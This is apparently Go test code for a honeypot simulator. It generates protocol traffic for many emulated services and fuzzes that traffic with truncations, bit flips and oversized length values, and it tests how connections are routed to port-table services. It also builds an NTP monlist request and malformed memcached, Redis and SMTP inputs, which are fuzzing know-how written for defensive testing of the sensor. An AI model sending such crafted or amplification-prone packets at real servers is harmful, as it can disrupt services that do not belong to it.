						"type":                  "memcached-" + verb,
						"protocol":              "udp",
						"memcached.command":     verb,
						"memcached.flags":       fmt.Sprintf("%d", flags),
						"memcached.expire-time": fmt.Sprintf("%d", exp),
						"memcached.bytes":       fmt.Sprintf("%d", len(val)),
						"payload":               val,
					}})
				notes = append(notes, line)
			}
		}
		out = append(out, pcmd{Data: data, Want: want, Note: strings.Join(notes, " | ")})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// counterstrike (Source engine server queries)

func genCounterStrike(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	used := map[string]bool{}
	for i := 0; i < n; i++ {
		// 4-byte challenge: three tag characters and the index, so the datagram is unique in the scenario
		t := tag + "xxxx"
		ch := []byte{t[1], t[2], t[3], byte('0' + i%64)}
		pre := []byte{0xff, 0xff, 0xff, 0xff}
		var d []byte
		var q string
		more := map[string]string{"category": "counterstrike", "type": "request", "protocol": "udp"}
		k := r.Intn(10)
		// the two queries without a payload can be told apart only once per scenario
		if (k == 8 && used["challenge"]) || (k == 9 && used["ping"]) {
			k = 4 + r.Intn(4)
		}
		switch {
		case k < 4:
			q = "a2s_info"
			body := "Source Engine Query\x00" + string(ch)
			d = append(append(pre, 0x54), body...)
			more["counterstrike.payload"] = body
		case k < 6:
			q = "a2s_player"
			d = append(append(pre, 0x55), ch...)
		case k < 8:
			q = "a2s_rules"
			d = append(append(pre, 0x56), ch...)
		case k < 9:
			q = "a2s_serverquery_challenge"
			d = append(pre, 0x57)
			used["challenge"] = true
		default:
			q = "a2s_ping"
			d = append(pre, 0x69)
			used["ping"] = true
		}
		more["counterstrike.query"] = q
		more["payload-length"] = fmt.Sprintf("%d", len(d))
		out = append(out, pcmd{Data: d, Note: q, Want: []wantEv{{Field: "payload-hex", Value: hex.EncodeToString(d), More: more}}})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// ntp: the service emits no event (services/ntp.go), so there is nothing to pin per datagram; the
// datagrams are well-formed client/control/private-mode requests.

func genNTP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		var d []byte
		var note string
		switch k := r.Intn(10); {
		case k < 6:
			d = make([]byte, 48)
			d[0] = byte(r.Range(3, 4))<<3 | 3 // LI 0, VN 3/4, mode 3 (client)
			copy(d[40:], r.Bytes(8))          // transmit timestamp
			note = "client"
		case k < 8:
			d = make([]byte, 8+184)
			d[0], d[1], d[2], d[3] = 0x17, 0x00, 0x03, 0x2a // mode 7, impl 3, MON_GETLIST_1
			note = "monlist"
		default:
			d = make([]byte, 12)
			d[0], d[1] = 0x16, 0x02 // mode 6, READVAR
			binary.BigEndian.PutUint16(d[2:], uint16(i+1))
			note = "readvar"
		}
		out = append(out, pcmd{Data: d, Note: fmt.Sprintf("ntp %s %s%d", note, tag, i)})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// echo over UDP

func genEchoUDP(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		text := fmt.Sprintf("%s%d %s", tag, i, r.word(0, 60))
		if r.Chance(0.5) {
			text += "\r\n"
		}
		d := []byte(text)
		out = append(out, pcmd{Data: d, Note: "echo " + strings.TrimSpace(text),
			Want: []wantEv{{Field: "payload-hex", Value: hex.EncodeToString(d), More: map[string]string{
				"category":       "echo",
				"payload":        text,
				"payload-length": fmt.Sprintf("%d", len(d)),
			}}}})
	}
	return out
}
