package htsim

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"strings"
)

// Hostile-input layer shared by C01 and C09: every director-less service of the registry, prototype
// dialogues (protocol grammars of protos*.go and the binary corpus), truncations, mutations, raw bytes.

type svcSpec struct {
	Key  string // table key
	Type string // registry type
	Port int
	UDP  bool
	Cfg  string
}

var allServices = []svcSpec{
	{"adb", "adb", 5555, false, ""},
	{"counterstrike", "counterstrike", 27015, true, ""},
	{"cwmp", "cwmp", 7547, false, ""},
	{"dns", "dns", 53, true, ""},
	{"docker", "docker", 2375, false, ""},
	{"echo", "echo", 7007, false, ""},
	{"echo-udp", "echo", 7, true, ""},
	{"elasticsearch", "elasticsearch", 9200, false, ""},
	{"eos", "eos", 8888, false, ""},
	{"ethereum", "ethereum", 8545, false, ""},
	{"ftp", "ftp", 21, false, "fs_base=\"@TMP@\""},
	{"http", "http", 80, false, ""},
	{"https", "https", 443, false, ""},
	{"ipp", "ipp", 631, false, ""},
	{"ldap", "ldap", 389, false, ""},
	{"memcached", "memcached", 11211, false, ""},
	{"memcached-udp", "memcached", 11211, true, ""},
	{"ntp", "ntp", 123, true, ""},
	{"redis", "redis", 6379, false, ""},
	{"smtp", "smtp", 25, false, ""},
	{"snmp", "snmp", 161, true, ""},
	{"ssh-auth", "ssh-auth", 2222, false, ""},
	{"ssh-simulator", "ssh-simulator", 22, false, ""},
	{"telnet", "telnet", 23, false, ""},
	{"tftp", "tftp", 69, true, ""},
	{"vnc", "vnc", 5900, false, "image=\"@TMP@/vnc.png\""},
}

// Every service can be put on a port of either transport by the configuration.  The table above has each service
// on the transport it was written for; these entries put it on the other one (own port numbers): a datagram
// service then gets a byte stream, a stream service single datagrams through listener.DummyUDPConn.
var protoLike = map[string]string{}

func init() {
	for _, x := range []struct {
		base string
		port int
	}{{"dns", 1053}, {"ntp", 1123}, {"snmp", 1161}, {"tftp", 1069}, {"counterstrike", 27016},
		{"redis", 6380}, {"telnet", 2323}, {"http", 8081}, {"smtp", 2525}, {"ldap", 3389}, {"ftp", 2121}, {"ipp", 6310},
		{"adb", 5556}, {"vnc", 5901}, {"docker", 2376}, {"elasticsearch", 9201}, {"ssh-simulator", 2022}, {"cwmp", 7548},
		{"eos", 8889}, {"ethereum", 8546}} {
		b := svcByKey(x.base)
		key := x.base + "-tcp"
		if !b.UDP {
			key = x.base + "-udp"
		}
		protoLike[key] = x.base
		allServices = append(allServices, svcSpec{key, b.Type, x.port, !b.UDP, b.Cfg})
	}
}

func svcByKey(k string) *svcSpec {
	for i := range allServices {
		if allServices[i].Key == k {
			return &allServices[i]
		}
	}
	return nil
}

func (s *svcSpec) config(name string) string {
	net := "tcp"
	if s.UDP {
		net = "udp"
	}
	return fmt.Sprintf("\n[service.%s]\ntype=%s\n%s\n[[port]]\nport=%s\nservices=[%s]\n",
		name, tomlStr(s.Type), s.Cfg, tomlStr(fmt.Sprintf("%s/%d", net, s.Port)), tomlStr(name))
}

// writeVNCImage creates the PNG the vnc service needs.
func writeVNCImage(dir string) {
	img := image.NewRGBA(image.Rect(0, 0, 48, 32))
	for y := 0; y < 32; y++ {
		for x := 0; x < 48; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 5), uint8(y * 7), uint8(x ^ y), 255})
		}
	}
	var b bytes.Buffer
	png.Encode(&b, img)
	os.WriteFile(filepath.Join(dir, "vnc.png"), b.Bytes(), 0644)
}

// pasvConnectMarker: not sent - stands for "connect to the passive port the service just announced, then stay silent"
var pasvConnectMarker = []byte("\x00pasvconnect\x00")

// prototypes returns well-formed client dialogues (lists of messages) for a service.
func prototypes(s *svcSpec, r *Rng) [][][]byte {
	var out [][][]byte
	udpMaxReqV = 1 << 30 // generator knob: never inherited from whatever was generated before in this process
	key := s.Key
	if b, ok := protoLike[key]; ok {
		key = b
	}
	if p := protoTable[key]; p != nil {
		for k := 0; k < 2; k++ {
			n := r.Range(1, 6)
			if p.OneShot {
				n = 1
			}
			var d [][]byte
			for _, c := range p.Gen(r, "x"+r.word(2, 2), n) {
				d = append(d, c.Data)
			}
			if len(d) > 0 {
				out = append(out, d)
			}
		}
	}
	if g := corpusBin[s.Type]; g != nil {
		for _, d := range g(r) {
			out = append(out, d)
		}
	}
	switch key {
	case "ftp":
		// logged-in sessions issuing path and transfer commands (the grammar of C04 avoids them)
		login := [][]byte{[]byte("USER anonymous\r\n"), []byte("PASS anonymous\r\n")}
		cmds := []string{"CWD /", "CWD ..", "CWD a", "CDUP", "PWD", "MKD d1", "RMD d1", "DELE f", "RNFR a", "RNTO b", "PASV", "EPSV", "LIST", "NLST", "RETR f", "RETR d1", "REST -10", "STOR f", "APPE f", "SIZE f", "MDTM f", "STAT /", "TYPE I", "PORT 10,1,0,10,4,1", "EPRT |1|10.1.0.10|1025|", "REST 5", "AUTH TLS", "PBSZ 0", "PROT P", "FEAT", "SYST", "NOOP", "QUIT", "ALLO 1", "MODE S", "STRU F", "OPTS UTF8 ON", "ABOR", "SITE x", "XCWD a", "XPWD", "XMKD q", "XRMD q", "MLSD", "MLST f", "CONF"}
		for _, pv := range []string{"PASV", "EPSV"} {
			// passive mode requested, a transfer command issued, the data port never connected to
			d := append([][]byte{}, login...)
			d = append(d, []byte(pv+"\r\n"), []byte(r.Pick([]string{"LIST", "NLST", "RETR f", "STOR f", "APPE f", "MLSD"})+"\r\n"))
			out = append(out, d)
		}
		for k := 0; k < 3; k++ {
			d := append([][]byte{}, login...)
			for j := r.Range(1, 6); j > 0; j-- {
				d = append(d, []byte(r.Pick(cmds)+"\r\n"))
			}
			out = append(out, d)
		}
		// data connections that are opened and then left alone: the client connects to the passive port (marker:
		// the scenario builder turns it into a connect to the port of the last 227 reply) or accepts the active
		// connection (the engine's sink address) and then neither sends nor reads nor closes
		xfer := func() []byte {
			// (RETR starts at REST bytes before the END of the file - without a negative REST it sends nothing; RETR of a
			// directory fails while reading)
			return []byte(r.Pick([]string{"STOR f", "RETR f", "REST -10\r\nRETR f", "RETR d1", "LIST", "NLST", "APPE f", "MLSD"}) + "\r\n")
		}
		// a long burst of commands written ahead in one segment, the session ending right behind it
		out = append(out, [][]byte{[]byte("USER anonymous\r\nPASS anonymous\r\n" + strings.Repeat(r.Pick([]string{"NOOP", "PWD", "SYST", "STAT /"})+"\r\n", r.Range(17, 120)) + "QUIT\r\n")})
		out = append(out,
			append(append([][]byte{}, login...), []byte("PASV\r\n"), pasvConnectMarker, xfer()),
			append(append([][]byte{}, login...), []byte("PASV\r\n"), pasvConnectMarker, []byte("PASV\r\n"), pasvConnectMarker, xfer()),
			append(append([][]byte{}, login...), []byte("PASV\r\n"), []byte("PASV\r\n"), pasvConnectMarker, xfer()),
			append(append([][]byte{}, login...), []byte("PORT 10,1,0,10,4,1\r\n"), xfer()),
			append(append([][]byte{}, login...), []byte("PORT 10,1,0,10,4,1\r\n"), []byte("EPRT |1|10.1.0.10|1025|\r\n"), xfer()),
			append(append([][]byte{}, login...), []byte("PASV\r\n"), pasvConnectMarker, []byte("PORT 10,1,0,10,4,1\r\n"), xfer()),
		)
	case "ldap":
		// rootDSE searches (base "", scope base, present filter, no attribute list), with and without typesOnly: the
		// dialogue grammar leaves them out because their reply is built from a map
		for k := 0; k < 2; k++ {
			id := int64(r.Range(1, 100))
			op := bSeq(0x40|3, bOct(""), bInt(0x0a, 0), bInt(0x0a, 0), bInt(0x02, 0), bInt(0x02, 0), bBool(k == 1 || r.Chance(0.3)), bStr(0x80|7, "objectClass"), bSeq(0x10))
			out = append(out, [][]byte{bSeq(0x10, bInt(0x02, id), op).enc(false), bSeq(0x10, bInt(0x02, id+1), op).enc(false)})
		}
	case "echo", "echo-udp":
		out = append(out, [][]byte{[]byte("hello\r\n"), r.Bytes(r.Range(1, 100))})
	case "smtp":
		out = append(out, [][]byte{[]byte("EHLO x\r\n"), []byte("STARTTLS\r\n"), r.Bytes(40)})
		out = append(out, [][]byte{[]byte("HELO x\r\n"), []byte("MAIL FROM:<a@b>\r\n"), []byte("BDAT 99999999\r\n"), []byte("x")})
		out = append(out, [][]byte{[]byte("HELO x\r\n"), []byte("MAIL FROM:<a@b>\r\n"), []byte("BDAT\r\n")})
		out = append(out, [][]byte{[]byte("HELO\r\n")})
	case "memcached", "memcached-udp":
		hdr := ""
		if s.UDP {
			hdr = "\x00\x01\x00\x00\x00\x01\x00\x00"
		}
		for _, l := range []string{"set k 0 0 -1\r\n", "set k 0 0 99999999999999999999\r\n", "set k 0 0\r\n", "set k 0 0 5\r\nab", "cas\r\n", "get\r\n", "\r\n"} {
			out = append(out, [][]byte{[]byte(hdr + l)})
		}
	case "redis":
		out = append(out, [][]byte{[]byte("*1\r\n$4\r\nINFO\r\n")}, [][]byte{[]byte("*0\r\n")}, [][]byte{[]byte("*1\r\n:5\r\n")}, [][]byte{[]byte("*99999999999\r\n$1\r\nx\r\n")}, [][]byte{[]byte("*2\r\n$-1\r\n$3\r\nfoo\r\n")}, [][]byte{[]byte("*1\r\n*1\r\n*1\r\n$1\r\nx\r\n")})
	case "telnet":
		out = append(out, [][]byte{[]byte("root\r\n"), []byte("pw\r\n"), []byte("ls\x1b[A\x1b[B\x1b[C\x1b[D\x7f\x7f\r\n"), []byte("\x1b[200~pasted\x1b[201~\r\n"), []byte("\xff\xfb\x01\xff\xfd\x03\r\n")})
	case "http":
		out = append(out, [][]byte{[]byte("GET / HTTP/1.1\r\nHost: x\r\nCookie: a=b; c\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")}, [][]byte{[]byte("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\nshort")})
	}
	if len(out) == 0 {
		out = append(out, [][]byte{r.Bytes(r.Range(1, 64))})
	}
	return out
}

// mutate applies 0-3 structural or byte-level mutations to a dialogue.
func mutate(r *Rng, d [][]byte) ([][]byte, string) {
	d = cloneMsgs(d)
	var tags []string
	for k := r.Intn(4); k > 0; k-- {
		if len(d) == 0 {
			break
		}
		i := r.Intn(len(d))
		switch r.Intn(12) {
		case 0: // truncate the dialogue after message i, cutting that message at a random point
			if len(d[i]) > 0 {
				d[i] = d[i][:r.Intn(len(d[i]))]
			}
			d = d[:i+1]
			tags = append(tags, "truncate")
		case 1: // drop a message
			d = append(d[:i], d[i+1:]...)
			tags = append(tags, "drop")
		case 2: // duplicate a message
			d = append(d[:i+1], append([][]byte{append([]byte(nil), d[i]...)}, d[i+1:]...)...)
			tags = append(tags, "dup")
		case 3: // swap two messages
			j := r.Intn(len(d))
			d[i], d[j] = d[j], d[i]
			tags = append(tags, "swap")
		case 4: // flip bits
			for n := 1 + r.Intn(4); n > 0 && len(d[i]) > 0; n-- {
				d[i][r.Intn(len(d[i]))] ^= 1 << uint(r.Intn(8))
			}
			tags = append(tags, "bitflip")
		case 5, 6: // overwrite a 1/2/4-byte window with a boundary value (length fields)
			if len(d[i]) > 0 {
				w := []int{1, 2, 4}[r.Intn(3)]
				pos := r.Intn(len(d[i]))
				val := [][]byte{{0, 0, 0, 0}, {0xff, 0xff, 0xff, 0xff}, {0x7f, 0xff, 0xff, 0xff}, {0x80, 0, 0, 0}, {0, 0, 0, 1}, {0, 0, 0xff, 0xff}, {0, 1, 0, 0}}[r.Intn(7)]
				for k := 0; k < w && pos+k < len(d[i]); k++ {
					d[i][pos+k] = val[4-w+k]
				}
			}
			tags = append(tags, "lenfield")
		case 7: // insert raw bytes
			pos := 0
			if len(d[i]) > 0 {
				pos = r.Intn(len(d[i]) + 1)
			}
			ins := r.Bytes(r.Range(1, 32))
			d[i] = append(d[i][:pos:pos], append(ins, d[i][pos:]...)...)
			tags = append(tags, "insert")
		case 8: // repeat a message many times
			n := r.Range(3, 40)
			rep := make([][]byte, 0, n)
			for k := 0; k < n; k++ {
				rep = append(rep, append([]byte(nil), d[i]...))
			}
			d = append(d[:i], append(rep, d[i+1:]...)...)
			tags = append(tags, "repeat")
		case 9: // replace ASCII digits by a huge / negative number
			s := string(d[i])
			if idx := strings.IndexAny(s, "0123456789"); idx >= 0 {
				j := idx
				for j < len(s) && s[j] >= '0' && s[j] <= '9' {
					j++
				}
				s = s[:idx] + r.Pick([]string{"-1", "0", "99999999999999999999", "2147483648", "65536", "4294967295", "100000000000", "1099511627776", "67108864", "9223372036854775807"}) + s[j:]
				d[i] = []byte(s)
			}
			tags = append(tags, "number")
		case 10: // cut the head off a message (out-of-state continuation)
			if len(d[i]) > 1 {
				d[i] = d[i][1+r.Intn(len(d[i])-1):]
			}
			tags = append(tags, "behead")
		default: // very long token
			d[i] = append(d[i], bytes.Repeat([]byte{"A\x00\xff/%"[r.Intn(5)]}, r.Range(100, 5000))...)
			tags = append(tags, "long")
		}
	}
	return d, strings.Join(tags, "+")
}

func cloneMsgs(d [][]byte) [][]byte {
	out := make([][]byte, len(d))
	for i := range d {
		out[i] = append([]byte(nil), d[i]...)
	}
	return out
}

// hostileDialogue draws one client input for a service: (messages, class).
func hostileDialogue(s *svcSpec, r *Rng) ([][]byte, string) {
	switch r.Intn(10) {
	case 0: // raw bytes
		n := r.Range(1, 300)
		if r.Chance(0.1) {
			n = r.Range(4096, 65536)
		}
		return [][]byte{r.Bytes(n)}, "raw"
	case 1, 2, 3: // well-formed
		ps := prototypes(s, r)
		return cloneMsgs(ps[r.Intn(len(ps))]), "proto"
	default:
		ps := prototypes(s, r)
		proto := ps[r.Intn(len(ps))]
		if r.Chance(0.5) {
			// mutate only the body of an HTTP-framed message and keep the framing consistent, so that
			// the mutation reaches the parser behind the HTTP layer (ipp, cwmp, json-rpc, ...)
			if d, ok := mutateHTTPBody(r, proto); ok {
				return d, "body-mutation"
			}
		}
		d, tag := mutate(r, proto)
		if tag == "" {
			tag = "proto"
		}
		return d, tag
	}
}

// mutateHTTPBody mutates the body of one HTTP request of the dialogue and recomputes Content-Length.
func mutateHTTPBody(r *Rng, d [][]byte) ([][]byte, bool) {
	d = cloneMsgs(d)
	for _, i := range r.Perm(len(d)) {
		m := d[i]
		sep := bytes.Index(m, []byte("\r\n\r\n"))
		if sep < 0 || !bytes.Contains(bytes.ToLower(m[:sep]), []byte("content-length:")) {
			continue
		}
		head, body := string(m[:sep]), append([]byte(nil), m[sep+4:]...)
		if len(body) == 0 {
			continue
		}
		switch r.Intn(6) {
		case 0, 1: // truncate the body
			body = body[:r.Intn(len(body))]
		case 2: // truncate at the very end (drop the last 1-3 bytes)
			k := r.Range(1, 3)
			if k < len(body) {
				body = body[:len(body)-k]
			}
		case 3:
			mb, _ := mutate(r, [][]byte{body})
			if len(mb) > 0 {
				body = mb[0]
			}
		case 4: // bit flips
			for n := 1 + r.Intn(4); n > 0 && len(body) > 0; n-- {
				body[r.Intn(len(body))] ^= 1 << uint(r.Intn(8))
			}
		default: // boundary values in 1/2/4-byte windows
			pos := r.Intn(len(body))
			w := []int{1, 2, 4}[r.Intn(3)]
			val := [][]byte{{0, 0, 0, 0}, {0xff, 0xff, 0xff, 0xff}, {0x7f, 0xff, 0xff, 0xff}, {0x80, 0, 0, 0}}[r.Intn(4)]
			for k := 0; k < w && pos+k < len(body); k++ {
				body[pos+k] = val[4-w+k]
			}
		}
		var lines []string
		for _, l := range strings.Split(head, "\r\n") {
			if strings.HasPrefix(strings.ToLower(l), "content-length:") {
				l = fmt.Sprintf("Content-Length: %d", len(body))
			}
			lines = append(lines, l)
		}
		d[i] = append([]byte(strings.Join(lines, "\r\n")+"\r\n\r\n"), body...)
		return d, true
	}
	return nil, false
}
