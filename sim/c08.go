package htsim

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// C08 — connections go to the first configured service that accepts them, stream intact.
//
// Workload: generated port tables over stub services (with / without prefix detectors), clients whose
// first delivered segment satisfies none / one / several detectors, arbitrary further segmentation,
// silent clients, unconfigured ports and addresses; TCP and UDP through the real socket listener.
// Oracle: reference selection rule evaluated on the bytes actually delivered before the peek returned.

func init() {
	engines["C08"] = &Engine{Gen: genC08, Run: runC08}
}

type portEntry struct {
	Proto    string   `json:"proto"`
	IP       string   `json:"ip"` // "" = wildcard
	Port     int      `json:"port"`
	Services []string `json:"services"`
}

type stubDef struct {
	Name   string `json:"name"`
	Det    bool   `json:"det"`
	Prefix string `json:"prefix"`
}

type c08Params struct {
	Ports []portEntry `json:"ports"`
	Stubs []stubDef   `json:"stubs"`
}

func (p *c08Params) stub(name string) *stubDef {
	for i := range p.Stubs {
		if p.Stubs[i].Name == name {
			return &p.Stubs[i]
		}
	}
	return nil
}

func stubConfig(stubs []stubDef) string {
	var b strings.Builder
	for _, s := range stubs {
		if s.Det {
			fmt.Fprintf(&b, "\n[service.%s]\ntype=\"stubdet\"\nname=%s\nprefix=%s\n", s.Name, tomlStr(s.Name), tomlStr(s.Prefix))
		} else {
			fmt.Fprintf(&b, "\n[service.%s]\ntype=\"stub\"\nname=%s\n", s.Name, tomlStr(s.Name))
		}
	}
	return b.String()
}

func portString(e portEntry) string {
	if e.IP == "" {
		return fmt.Sprintf("%s/%d", e.Proto, e.Port)
	}
	return fmt.Sprintf("%s/%s:%d", e.Proto, e.IP, e.Port)
}

// portsConfig writes the table; neighbouring entries with the same service list share one block in the
// `ports = [...]` spelling (the table they describe is the same).
func portsConfig(ports []portEntry) string {
	var b strings.Builder
	for i := 0; i < len(ports); i++ {
		e := ports[i]
		var names []string
		for _, s := range e.Services {
			names = append(names, tomlStr(s))
		}
		block := []string{tomlStr(portString(e))}
		for i+1 < len(ports) && strings.Join(ports[i+1].Services, ",") == strings.Join(e.Services, ",") {
			i++
			block = append(block, tomlStr(portString(ports[i])))
		}
		if len(block) > 1 {
			fmt.Fprintf(&b, "\n[[port]]\nports=[%s]\nservices=[%s]\n", strings.Join(block, ","), strings.Join(names, ","))
		} else {
			fmt.Fprintf(&b, "\n[[port]]\nport=%s\nservices=[%s]\n", block[0], strings.Join(names, ","))
		}
	}
	return b.String()
}

var c08Prefixes = []string{"GET ", "GET /x", "SSH-", "\x16\x03", "A", "AB", "HELO"}

func genC08(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c08")
	var p c08Params
	// stubs
	ns := r.Range(2, 6)
	for i := 0; i < ns; i++ {
		d := stubDef{Name: fmt.Sprintf("s%d", i)}
		if r.Chance(0.6) {
			d.Det = true
			d.Prefix = r.Pick(c08Prefixes)
		}
		p.Stubs = append(p.Stubs, d)
	}
	// ports (distinct proto/port so the table is unambiguous; C19 explores duplicates)
	np := r.Range(1, 3)
	ips := []string{"", "", sensorIP, "192.0.2.2"}
	for i := 0; i < np; i++ {
		e := portEntry{Proto: "tcp", Port: 8000 + i, IP: r.Pick(ips)}
		if r.Chance(0.3) {
			e.Proto = "udp"
		}
		k := r.Range(1, 4)
		if r.Chance(0.08) {
			k = 0
		}
		for j := 0; j < k; j++ {
			e.Services = append(e.Services, p.Stubs[r.Intn(len(p.Stubs))].Name)
		}
		if i > 0 && r.Chance(0.35) {
			// the same services as the entry before: the two are written as one block with a port list
			e.Services = append([]string(nil), p.Ports[i-1].Services...)
		}
		p.Ports = append(p.Ports, e)
	}
	// a second entry with the same protocol and port on another specific address (still unambiguous)
	if r.Chance(0.3) {
		for i := range p.Ports {
			if p.Ports[i].IP != "" {
				e := p.Ports[i]
				if e.IP == sensorIP {
					e.IP = "192.0.2.2"
				} else {
					e.IP = sensorIP
				}
				e.Services = nil
				for j := r.Range(1, 3); j > 0; j-- {
					e.Services = append(e.Services, p.Stubs[r.Intn(len(p.Stubs))].Name)
				}
				p.Ports = append(p.Ports, e)
				break
			}
		}
	}
	// the same port number over the other protocol, with services of its own (still unambiguous: ports match on protocol)
	if r.Chance(0.3) {
		e := p.Ports[0]
		if e.Proto == "tcp" {
			e.Proto = "udp"
		} else {
			e.Proto = "tcp"
		}
		e.Services = nil
		for j := r.Range(1, 3); j > 0; j-- {
			e.Services = append(e.Services, p.Stubs[r.Intn(len(p.Stubs))].Name)
		}
		p.Ports = append(p.Ports, e)
	}
	sc := &Scenario{Engine: "c08"}
	sc.Config = baseConfig + stubConfig(p.Stubs) + portsConfig(p.Ports)
	pj, _ := json.Marshal(p)
	var pm map[string]interface{}
	json.Unmarshal(pj, &pm)
	sc.Params = pm
	// clients
	nc := r.Range(1, 4)
	classes := map[string]bool{}
	for c := 0; c < nc; c++ {
		e := p.Ports[r.Intn(len(p.Ports))]
		dstIP := e.IP
		if dstIP == "" {
			dstIP = r.Pick([]string{sensorIP, "192.0.2.2", "198.51.100.7"})
		}
		port := e.Port
		kind := r.Intn(10)
		if kind == 0 { // unconfigured port
			port = 8100 + r.Intn(3)
			classes["unconfigured-port"] = true
		} else if kind == 1 && e.IP != "" { // configured port, other address
			dstIP = "198.51.100.9"
			classes["other-address"] = true
		}
		a := Actor{Kind: e.Proto, Src: clientAddr(c), Dst: fmt.Sprintf("%s:%d", dstIP, port)}
		// payload: starts with a prefix satisfying none/one/several detectors
		var payload []byte
		switch r.Intn(4) {
		case 0:
			payload = append([]byte(r.Pick(c08Prefixes)), r.Bytes(r.Range(0, 300))...)
		case 1:
			payload = r.Bytes(r.Range(1, 64))
		case 2:
			payload = append([]byte(r.Pick(c08Prefixes)), []byte(r.word(0, 2000))...)
		default:
			payload = []byte("GET /x" + r.word(0, 40) + "\r\n\r\n")
		}
		if r.Chance(0.05) {
			payload = append(payload, r.Bytes(r.Range(1000, 4000))...)
			classes["long"] = true
		}
		if e.Proto == "udp" {
			a.Ops = []Op{SendOp(payload, nil, "dgram")}
			classes["udp"] = true
		} else {
			switch r.Intn(12) {
			case 0: // silent client: closes without sending
				a.Ops = []Op{{K: "close"}}
				classes["silent-close"] = true
			case 1: // silent for longer than the peek timeout, then sends
				a.Ops = []Op{{K: "sleep", Ms: 31000}, SendOp(payload, nil, ""), {K: "close"}}
				classes["silent-31s"] = true
			case 2: // delay below the timeout before the first byte
				a.Ops = []Op{{K: "sleep", Ms: int64(r.Range(1, 29000))}, SendOp(payload, r.Cuts(len(payload)), ""), {K: "close"}}
				classes["delay"] = true
			default:
				op := SendOp(payload, r.Cuts(len(payload)), "")
				if r.Chance(0.3) && len(payload) > 1 {
					op.Cuts = append([]int{1}, op.Cuts...)
				}
				a.Ops = []Op{op, {K: "close"}}
			}
		}
		sc.Actors = append(sc.Actors, a)
		if e.Proto == "udp" && r.Chance(0.5) {
			// a second source hitting the same socket (its datagram may arrive before the first one's handler ran)
			b := Actor{Kind: "udp", Src: clientAddr(10 + c), Dst: a.Dst}
			pl2 := append([]byte(r.Pick(c08Prefixes)), r.Bytes(r.Range(0, 300))...)
			b.Ops = []Op{SendOp(pl2, nil, "dgram")}
			sc.Actors = append(sc.Actors, b)
		}
	}
	allUDP := len(sc.Actors) >= 2
	for _, a := range sc.Actors {
		if a.Kind != "udp" {
			allUDP = false
		}
	}
	var cl []string
	for k := range classes {
		cl = append(cl, k)
	}
	sortStrings(cl)
	sc.Class = fmt.Sprintf("ports=%d clients=%d %s", np, nc, strings.Join(cl, "+"))
	sc.Schedule = r.Schedule(64)
	if allUDP && r.Chance(0.8) {
		// datagram bursts: several datagrams released in one step (for streams the "first bytes" of the
		// statement would become ambiguous, so bursts are only generated when every client is a datagram client)
		for i := range sc.Schedule {
			sc.Schedule[i] |= 1<<16 | r.Intn(4)<<17
		}
		sc.Class += " burst"
	}
	sc.DrainMs = 62000
	sc.Params["read_size"] = []int{1, 2, 8, 64, 1024, 4096, 4096}[r.Intn(7)]
	// a service may do something before its first read (the bytes inspected for detection have to keep until then)
	sc.Params["pre_read_ms"] = []int{0, 0, 0, 1, 20, 2000}[r.Intn(6)]
	return sc
}

func decodeC08Params(sc *Scenario) c08Params {
	var p c08Params
	b, _ := json.Marshal(sc.Params)
	json.Unmarshal(b, &p)
	return p
}

// effectiveTable applies "first of two compatible entries wins" and drops entries without services.
func effectiveTable(ports []portEntry, defined func(string) bool) []portEntry {
	var out []portEntry
	for _, e := range ports {
		var svcs []string
		for _, s := range e.Services {
			if defined(s) {
				svcs = append(svcs, s)
			}
		}
		if len(svcs) == 0 {
			continue
		}
		dup := false
		for _, o := range out {
			if o.Proto == e.Proto && o.Port == e.Port && (o.IP == "" || e.IP == "" || o.IP == e.IP) {
				dup = true
			}
		}
		if dup {
			continue
		}
		e.Services = svcs
		out = append(out, e)
	}
	return out
}

func lookupEntry(table []portEntry, proto, ip string, port int) *portEntry {
	for i := range table {
		e := &table[i]
		if e.Proto == proto && e.Port == port && (e.IP == "" || e.IP == ip) {
			return e
		}
	}
	return nil
}

// firstSegment returns the bytes of the actor's first delivered segment, whether the client stays
// silent past the peek timeout before it, and whether it closes before sending anything.
func firstSegment(a *Actor) (seg []byte, silentMs int64, closedFirst bool) {
	for _, o := range a.Ops {
		switch o.K {
		case "sleep":
			silentMs += o.Ms
		case "send":
			return o.Segments()[0], silentMs, false
		case "close", "reset", "halfclose":
			return nil, silentMs, true
		}
	}
	return nil, silentMs, true
}

func fullStream(a *Actor) []byte {
	var b []byte
	for _, o := range a.Ops {
		if o.K == "send" {
			b = append(b, o.Bytes()...)
		}
	}
	return b
}

// expectedService evaluates the statement's selection rule.  ok=false: nobody may see the connection.
func expectedService(p *c08Params, e *portEntry, a *Actor, co *ConnObs) (name string, ok bool, peeked bool) {
	if e == nil || len(e.Services) == 0 {
		return "", false, false
	}
	if len(e.Services) == 1 {
		return e.Services[0], true, false
	}
	seg, _, closedFirst := firstSegment(a)
	// silence before the first byte as it really happened on the simulated clock (other actors'
	// clock advances count too)
	var silent int64
	if a.Kind == "udp" {
		// a datagram is complete when it arrives: no silence to wait through
	} else if len(co.SegMs) > 0 {
		silent = co.SegMs[0] - co.ConnectMs
	} else if co.EndMs > 0 {
		silent = co.EndMs - co.ConnectMs
		if silent >= 30000 {
			closedFirst = true
		}
	}
	for _, s := range e.Services {
		d := p.stub(s)
		if d == nil {
			continue
		}
		if !d.Det {
			return s, true, peeked
		}
		if !peeked {
			peeked = true
			if closedFirst || silent >= 30000 {
				return "", false, true // nothing to inspect: closed
			}
			if len(seg) > 1024 {
				seg = seg[:1024]
			}
		}
		if bytes.HasPrefix(seg, []byte(d.Prefix)) {
			return s, true, true
		}
	}
	return "", false, peeked
}

func runC08(t *testing.T, sc *Scenario) Result {
	res := okResult()
	stubHub.reset()
	stubHub.ReadSize = sc.ParamInt("read_size", 4096)
